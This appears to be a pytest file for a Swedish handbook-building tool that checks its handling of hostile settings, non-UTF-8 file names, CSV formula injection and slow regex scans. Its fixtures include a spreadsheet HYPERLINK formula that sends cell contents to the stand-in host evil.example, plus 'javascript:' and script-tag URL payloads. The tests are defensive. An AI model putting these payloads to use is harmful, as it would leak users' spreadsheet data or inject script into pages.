"""Hostile settings and names (issue 31): the base URL, SOURCE_DATE_EPOCH, file names that are not
UTF-8, CSV cells split at commas, and a megabyte of hostile text. Each gives one clean line or
safe output, never a traceback, and no scan of free text takes quadratic time."""

from __future__ import annotations

import ast
import csv
import dataclasses
import errno
import io
import json
import os
import queue
import re
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import pytest
from sphinx.errors import ConfigError

import servicehandbok
from conftest import PROJECTS, REPO, ROOTS, copy_projects, minimal_project, write_project
from servicehandbok.cli import scaffold
from servicehandbok.data import epoch, phones, privacy
from servicehandbok.data.catalog import load_catalog
from servicehandbok.data.status import build_date
from servicehandbok.outputs import exports
from servicehandbok.sphinxext.core.config import SETTINGS, from_config
from servicehandbok.sphinxext.lifecycle.generate import copy_sources
from servicehandbok.sphinxext.run import live

SOURCE = str(Path(servicehandbok.__file__).parents[1])
BANNERS = ("Traceback", "Exception occurred", "Extension error", "sphinx-doc/sphinx/issues", "Error")
BAD = b"\xff"
"""A byte that no UTF-8 name holds; Python keeps it in a str as the lone surrogate U+DCFF."""
BAD_NAME = os.fsdecode(BAD + b".yaml")


def environment(**changes: str | None) -> dict[str, str]:
    """The environment for a command run as a contributor would: the source tree on the path,
    output encoded strictly (as in any UTF-8 locale but C), no colours."""
    env = {**os.environ, "PYTHONPATH": SOURCE, "PYTHONIOENCODING": "utf-8", "NO_COLOR": "1"}
    for name, value in changes.items():
        if value is None:
            env.pop(name, None)
        else:
            env[name] = value
    return env


def run(args: list[str | bytes], cwd: Path, **env: str | None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, *args], cwd=cwd, capture_output=True, text=True, timeout=300, env=environment(**env)
    )


def no_crash(result: subprocess.CompletedProcess[str]) -> None:
    output = result.stdout + result.stderr
    assert [banner for banner in BANNERS if banner in output] == [], output


# --- 1. The base URL (html_baseurl) ------------------------------------------------------


def values(**changes: object) -> SimpleNamespace:
    settings = {setting.name: setting.default for setting in SETTINGS} | {"servicehandbok_projects": "projects"}
    return SimpleNamespace(**settings, **changes)


@pytest.fixture
def srcdir(tmp_path: Path) -> Path:
    target = tmp_path / "src"
    shutil.copytree(ROOTS / "test-handbook", target)
    copy_projects(target / "projects", ids=())
    return target


@pytest.mark.parametrize(
    "url",
    ["", "https://example.org/", "http://localhost:8000/", "https://example.org/handbok/", "https://x.se/%C3%A5r/"],
)
def test_a_usable_base_url_is_accepted_as_written(srcdir: Path, url: str) -> None:
    from_config(values(html_baseurl=url), srcdir)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("url", "says"),
    [
        (
            "https://example.org/handbok",
            "måste sluta med / (webbplatsen är en mapp|Skriv 'https://example.org/handbok/'",
        ),
        ("https://example.org", "måste sluta med /|Skriv 'https://example.org/'"),
        ('https://example.org/a"b/', "Skriv 'https://example.org/a%22b/'"),
        ("https://example.org/a'><script>/", "Skriv 'https://example.org/a%27%3E%3Cscript%3E/'"),
        ("https://example.org/tjänster/", "Skriv 'https://example.org/tj%C3%A4nster/'"),
        ("javascript:alert(1)", "börja med https://"),
        ("//example.org/", "börja med https://"),
        ("ftp://example.org/", "börja med https://"),
        (" https://example.org/", "mellanslag"),
        ("https://example.org/?a=1/", "? eller #"),
        ("https://anna:hemligt@example.org/", "användarnamn"),
        ("https://example.org/../", "'..'"),
        ("https://example.org:99999/", "porten"),
        (5, "ska vara en text"),
    ],
)
def test_a_base_url_the_pages_cannot_use_is_refused_with_the_form_to_write(
    srcdir: Path, url: object, says: str
) -> None:
    with pytest.raises(ConfigError) as refused:
        from_config(values(html_baseurl=url), srcdir)  # type: ignore[arg-type]
    message = str(refused.value)
    assert message.startswith(f"html_baseurl = {url!r} går inte: "), message
    assert all(part in message for part in says.split("|")) and "\n" not in message, message


@pytest.mark.parametrize("url", ["javascript:alert(1)", "https://example.org/handbok", 'https://example.org/a"b/'])
def test_the_handbook_stops_on_a_bad_base_url_with_one_line_at_conf_py(tmp_path: Path, url: str) -> None:
    """The real conf.py (with the 404 page's extension, which crashed on ``javascript:``) and the
    address from the environment, as CI passes it."""
    docs = copy_sources(REPO / "docs", tmp_path / "docs")
    args = ["-m", "servicehandbok.sphinxext.run.sphinxbuild", "-q", "-b", "html", "-D"]
    result = run(
        [*args, f"servicehandbok_projects={PROJECTS}", str(docs), str(tmp_path / "html")],
        tmp_path,
        SERVICEHANDBOK_BASEURL=url,
        SOURCE_DATE_EPOCH="1796601600",
    )
    no_crash(result)
    assert result.returncode == 1
    line = next(line for line in result.stderr.splitlines() if "html_baseurl" in line)
    assert re.match(
        rf"^{re.escape(str(docs))}/conf\.py:\d+:1: ERROR: html_baseurl = {re.escape(repr(url))} går inte", line
    )
    assert result.stderr.splitlines()[-1] == "Bygget stoppades: 1 fel i inställningarna (listan ovan)."
    assert not (tmp_path / "html" / "404.html").exists()


# --- 2. SOURCE_DATE_EPOCH -----------------------------------------------------------------

UNUSABLE_EPOCHS = ["igår", "", " ", "-5", "1e9", "1.5", "1_000", "١٢٣", "253402300800", "9" * 5000]


@pytest.mark.parametrize("value", UNUSABLE_EPOCHS)
def test_an_unusable_source_date_epoch_is_refused(value: str) -> None:
    with pytest.raises(ValueError) as refused:
        build_date({"SOURCE_DATE_EPOCH": value})
    message = str(refused.value)
    assert message.startswith("SOURCE_DATE_EPOCH=") and "går inte: skriv sekunder sedan 1970-01-01" in message
    assert len(message) < 300 and "\n" not in message


@pytest.mark.parametrize(
    ("value", "day"), [("0", "1970-01-01"), (" 1796601600 ", "2026-12-07"), ("253402300799", "9999-12-31")]
)
def test_a_usable_source_date_epoch_gives_its_day(value: str, day: str) -> None:
    assert build_date({"SOURCE_DATE_EPOCH": value}).isoformat() == day


@pytest.mark.parametrize("value", ["igår", "", "-5", "99999999999999999999"])
def test_the_build_command_says_why_before_sphinx_reads_the_variable(tmp_path: Path, value: str) -> None:
    """Sphinx reads SOURCE_DATE_EPOCH as it starts (its gettext builder), before any extension."""
    source = tmp_path / "src"
    shutil.copytree(ROOTS / "test-handbook", source)
    copy_projects(source / "projects", ids=())
    args = ["-m", "servicehandbok.sphinxext.run.sphinxbuild", "-q", "-b", "html", str(source), str(tmp_path / "out")]
    result = run(args, tmp_path, SOURCE_DATE_EPOCH=value)
    no_crash(result)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [f"Bygget stoppades: {epoch.epoch_problem({'SOURCE_DATE_EPOCH': value})}"]


def test_the_rule_loads_without_the_package_or_its_dependencies(tmp_path: Path) -> None:
    """The noxfile reads epoch.py by its path before anything is installed: standard library only."""
    code = (
        "import importlib.util, sys\n"
        f"spec = importlib.util.spec_from_file_location('epoch', {str(Path(epoch.__file__))!r})\n"
        "module = importlib.util.module_from_spec(spec); spec.loader.exec_module(module)\n"
        "print(module.epoch_problem({'SOURCE_DATE_EPOCH': 'igår'}))\n"
    )
    result = subprocess.run([sys.executable, "-S", "-I", "-c", code], capture_output=True, text=True, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("SOURCE_DATE_EPOCH='igår' går inte")


def test_every_nox_session_that_installs_the_package_checks_the_variable_first() -> None:
    """pip reads SOURCE_DATE_EPOCH when it builds the wheel and crashes on text: the check comes before."""
    tree = ast.parse((REPO / "noxfile.py").read_text(encoding="utf-8"))
    sessions = [node for node in tree.body if isinstance(node, ast.FunctionDef) and node.decorator_list]
    installing = []
    for session in sessions:
        calls = [node for node in ast.walk(session) if isinstance(node, ast.Call)]
        installs = [
            call
            for call in calls
            if ast.unparse(call.func) == "session.install"
            and any(isinstance(arg, ast.Constant) and str(arg.value).startswith(".") for arg in call.args)
        ]
        if installs:
            installing.append(session.name)
            body = [n for n in session.body if not (isinstance(n, ast.Expr) and isinstance(n.value, ast.Constant))]
            assert ast.unparse(body[0]) == "build_date_variable(session)", session.name
    assert {"docs", "epub", "docs_live", "tests"} <= set(installing)


# --- 3. File names that are not UTF-8 ----------------------------------------------------


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return copy_projects(tmp_path / "projects", ["uppsala-servicepunkter"])


def names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def bad_name(folder: Path) -> Path:
    path = folder / BAD_NAME
    shutil.copy(folder / "uppsala-servicepunkter.yaml", path)
    return path


def test_check_names_a_file_whose_name_is_not_utf8(folder: Path) -> None:
    bad_name(folder)
    result = run(["-m", "servicehandbok.cli", "check", "projects"], folder.parent)
    no_crash(result)
    assert result.returncode == 1
    assert result.stdout.splitlines() == [
        "projects/\\xff.yaml:1:1: filnamnet är inte UTF-8, så filen läses inte — "
        "byt namn på filen till projektets id och .yaml, med bara a–z, 0–9 och bindestreck"
    ]
    assert "1 projekt utan fel, 1 fel" in result.stderr


def test_check_and_new_show_a_folder_whose_name_is_not_utf8(tmp_path: Path) -> None:
    missing = run(["-m", "servicehandbok.cli", "check", os.fsdecode(b"nowhere" + BAD)], tmp_path)
    no_crash(missing)
    assert missing.returncode == 2 and missing.stderr.startswith("nowhere\\xff: hittar ingen mapp _vocabulary")
    folder = copy_projects(tmp_path / os.fsdecode(b"projekt" + BAD), [])
    made = run(["-m", "servicehandbok.cli", "new", "Byns butik", "--folder", folder.name], tmp_path)
    no_crash(made)
    assert made.returncode == 0 and made.stdout.startswith("Skrev projekt\\xff/byns-butik.yaml.")
    assert (folder / "byns-butik.yaml").read_text(encoding="utf-8").startswith("# yaml-language-server")


def test_new_refuses_a_title_that_is_not_utf8_and_leaves_nothing(folder: Path) -> None:
    before = names(folder)
    result = run(["-m", "servicehandbok.cli", "new", b"Byns butik " + BAD, "--folder", "projects"], folder.parent)
    no_crash(result)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "Titeln ”Byns butik \\xff” innehåller tecken som inte är UTF-8; skriv den igen i en terminal som använder UTF-8."
    ]
    assert names(folder) == before


def test_new_leaves_nothing_when_writing_fails(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = names(folder)

    def full(_: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(scaffold.os, "fsync", full)
    with pytest.raises(
        scaffold.ScaffoldError, match=r"byns-butik\.yaml kunde inte skrivas \(No space left on device\)"
    ):
        scaffold.create(folder, "Byns butik")
    assert names(folder) == before


def test_new_never_overwrites_a_file_created_meanwhile(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = folder / "byns-butik.yaml"
    render = scaffold.template

    def someone_else_saves_first(*args: object) -> str:
        target.write_text("id: byns-butik\n", encoding="utf-8")
        return render(*args)  # type: ignore[arg-type]

    monkeypatch.setattr(scaffold, "template", someone_else_saves_first)
    with pytest.raises(scaffold.ScaffoldError, match="finns redan"):
        scaffold.create(folder, "Byns butik")
    assert target.read_text(encoding="utf-8") == "id: byns-butik\n"
    assert names(folder) == sorted(["_schema", "_vocabulary", "uppsala-servicepunkter.yaml", target.name])


def test_new_writes_whole_files_where_hard_links_are_not_allowed(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(self: Path, target: Path) -> None:
        raise OSError(errno.EPERM, os.strerror(errno.EPERM))

    monkeypatch.setattr(Path, "hardlink_to", refused)
    path = scaffold.create(folder, "Byns butik")
    assert path.read_text(encoding="utf-8").startswith("# yaml-language-server")
    assert [name for name in names(folder) if name.endswith(".tmp")] == []


def test_the_build_names_a_project_file_whose_name_is_not_utf8(tmp_path: Path) -> None:
    source = tmp_path / "src"
    shutil.copytree(ROOTS / "test-handbook", source)
    bad_name(copy_projects(source / "projects", ["uppsala-servicepunkter"]))
    args = ["-m", "sphinx", "-q", "-b", "html", str(source), str(tmp_path / "out")]
    result = run(args, tmp_path, SOURCE_DATE_EPOCH="1796601600")
    no_crash(result)
    assert result.returncode == 1
    assert re.search(r"(?m)^projects/\\xff\.yaml:1:1: ERROR: filnamnet är inte UTF-8", result.stderr), result.stderr
    assert result.stderr.splitlines()[-1].startswith("Bygget stoppades: 1 fel i projektfilerna")


def test_the_live_loop_says_so_and_keeps_watching(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """watchfiles ends its watch on a name that is not UTF-8; the loop names the file, builds, and goes on."""
    watchfiles = pytest.importorskip("watchfiles")
    said: list[str] = []
    monkeypatch.setattr(live, "say", said.append)
    stop, watch = threading.Event(), watchfiles.watch
    monkeypatch.setattr(watchfiles, "watch", lambda *paths, **options: watch(*paths, stop_event=stop, **options))
    watched = tmp_path / "src"
    watched.mkdir()
    batches: queue.Queue[list[Path]] = queue.Queue()
    ignored = live.Ignored(watched, [], [])
    changes = live.changes([watched], ignored)
    threading.Thread(target=lambda: [batches.put(batch) for batch in changes], daemon=True).start()

    def next_batch() -> list[Path]:
        return batches.get(timeout=30)

    try:
        time.sleep(1)  # the watch starts in the thread
        (watched / BAD_NAME).write_text("id: x\n", encoding="utf-8")
        assert next_batch() == []  # a full build, which lists the file among the problems
        assert said == [
            f"servicehandbok: {watched.as_posix()}/\\xff.yaml: filnamnet är inte UTF-8 — byt namn på filen "
            "(bara a–z, 0–9 och bindestreck); förhandsvisningen bygger om och fortsätter"
        ]
        (watched / "sida.md").write_text("# Sida\n", encoding="utf-8")
        assert next_batch() == [(watched / "sida.md").resolve()]
    finally:
        stop.set()


def test_the_live_loop_writes_an_undecodable_name_as_an_escape(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", errors="strict")
    monkeypatch.setattr(sys, "stdout", stream)
    live.say(f"servicehandbok: ändrat: projects/{BAD_NAME}; bygger om")
    stream.seek(0)
    assert stream.read() == "servicehandbok: ändrat: projects/\\xff.yaml; bygger om\n"


# --- 4. CSV cells split at commas --------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"klicka")'


def naive_cells(text: str) -> list[str]:
    """Every cell a program that ignores the quoting finds: the lines split at line breaks, then at
    commas, semicolons and tabs, each cell without the spaces and quotes around it."""
    return [part.strip(' "\u00a0') for line in re.split(r"\r\n|\r|\n", text) for part in re.split(r"[,;\t]", line)]


def hostile_catalog(tmp_path: Path):  # type: ignore[no-untyped-def]
    folder = copy_projects(tmp_path / "projects", [])
    write_project(
        folder,
        minimal_project(
            "formel",
            budget={"total": 1000, "co_funders": [{"name": f"Byn, {FORMULA}"}, {"name": "-1+2"}]},
            sources=[
                {
                    "id": "k",
                    "title": "K",
                    "publisher": "P",
                    "url": "https://example.se/a,=b;-c,@d",
                    "read": "2026-01-31",
                    "kind": "news",
                }
            ],
            outcome={"searched": "2026-01-31", "results": [{"text": "Ja.", "sources": ["k"]}]},
        ),
    )
    catalog = load_catalog(folder)
    assert not catalog.errors, [p.format() for p in catalog.errors]
    project = catalog.projects["formel"]
    hostile = {
        "title": f"Byn,{FORMULA}",
        "lead_organisation": 'Byalaget; "  +SUM(1)" och\n@x och\t-2 och, "=1"',
    }
    catalog.projects["formel"] = dataclasses.replace(project, **hostile)
    return catalog, hostile


def test_no_split_of_the_csv_makes_a_formula(tmp_path: Path) -> None:
    catalog, hostile = hostile_catalog(tmp_path)
    text = exports.projects_csv(catalog, lambda p: "https://example.se/projekt/formel.html").decode("utf-8-sig")
    formulas = [cell for cell in naive_cells(text) if cell.startswith(("=", "+", "-", "@"))]
    assert formulas == []
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    # Read naturally: the text as written, with the spreadsheet's "text, not a formula" mark before each sign.
    assert row[1] == "Byn,'" + FORMULA
    assert row[2] == "Byalaget; \"  '+SUM(1)\" och\n'@x och\t'-2 och, \"'=1\""
    assert f"Byn, '{FORMULA}, '-1+2" in row  # the co-funders the file only names
    # A link keeps working: the separator before a sign is %-escaped instead.
    assert "https://example.se/a%2C=b%3B-c%2C@d" in row
    record = json.loads(exports.projects_json(catalog))["projects"][0]
    assert record["title"] == hostile["title"]  # the open data keeps the exact text


def test_the_real_projects_csv_has_no_formula_in_any_split(tmp_path: Path) -> None:
    text = exports.projects_csv(load_catalog(PROJECTS), lambda p: "https://example.se/").decode("utf-8-sig")
    assert [cell for cell in naive_cells(text) if cell.startswith(("=", "+", "-", "@"))] == []


# --- 5. A megabyte of hostile text -------------------------------------------------------

HIDE_ALL = privacy.Private(names=("greta hemlig",), emails=frozenset({"a@b.se"}), every=True)
SCANS: dict[str, Callable[[str], object]] = {
    "emails_in": privacy.emails_in,
    "redact": lambda text: privacy.redact(text, HIDE_ALL),
    "numbers_in": phones.numbers_in,
}
HOSTILE = [" ", "\n", " \t", "a@", ".", "-", "0-", "0", "+", "(", " (at", "a (at) b (dot) ", "x@" + "b." * 40, "greta "]
"""Texts that made a pattern read far back or start over: runs of spaces, signs and digits, and
the written-out at-signs and dots, repeated to any length."""


def cpu(function: Callable[[str], object], text: str, times: int = 3) -> float:
    """The least processor time of *times* calls (other processes cannot make it longer)."""
    spent = []
    for _ in range(times):
        started = time.process_time()
        function(text)
        spent.append(time.process_time() - started)
    return min(spent)


def repeated(unit: str, size: int) -> str:
    return (unit * (size // len(unit) + 1))[:size]


@pytest.mark.parametrize("scan", SCANS)
@pytest.mark.parametrize("unit", HOSTILE)
def test_scanning_hostile_text_takes_linear_time(scan: str, unit: str) -> None:
    """Four times the text takes about four times as long, never sixteen: compared within one run,
    so no machine is too slow (a quadratic scan of 16,000 spaces took 14 times as long as of 4,000)."""
    small, large = (cpu(SCANS[scan], repeated(unit, size)) for size in (4_000, 16_000))
    assert large < 8 * small + 0.02, (small, large)


@pytest.mark.parametrize("scan", SCANS)
def test_a_megabyte_of_hostile_text_takes_linear_time(scan: str) -> None:
    """A megabyte, the largest file the loader reads, made of a long run of each hostile text,
    against a quarter of it: the same ratio, on the sizes a contributor's file can have."""

    def mixed(size: int) -> str:
        return "".join(repeated(unit, size // len(HOSTILE)) for unit in HOSTILE)

    small, large = (cpu(SCANS[scan], mixed(size), times=1) for size in (250_000, 1_000_000))
    assert large < 8 * small + 0.05, (small, large)
